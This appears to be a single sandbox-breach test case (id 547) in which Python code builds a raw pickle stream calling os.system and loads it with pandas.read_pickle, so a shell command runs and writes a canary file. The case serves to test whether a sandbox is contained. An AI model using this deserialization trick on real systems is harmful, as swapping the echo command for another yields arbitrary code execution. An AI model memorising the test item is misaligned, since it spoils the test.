# id: 547
# name: pandas_read_pickle
# category: interpreter
# technique: pandas.read_pickle of a file of its own
# breach: file
# looks_like: CANARY_FILE is created
# imports: pandas, numpy
# baseline: inproc
import pandas as pd
import numpy as np
p = "cos\nsystem\n(S'echo breach > " + CANARY_FILE + "'\ntR."
pd.Series([p]).to_csv(WORK_DIR + '/p', index=False, header=False, quoting=3, escapechar='\x01') if 0 else np.array([ord(c) for c in p], dtype='u1').tofile(WORK_DIR + '/p')
pd.read_pickle(WORK_DIR + '/p')
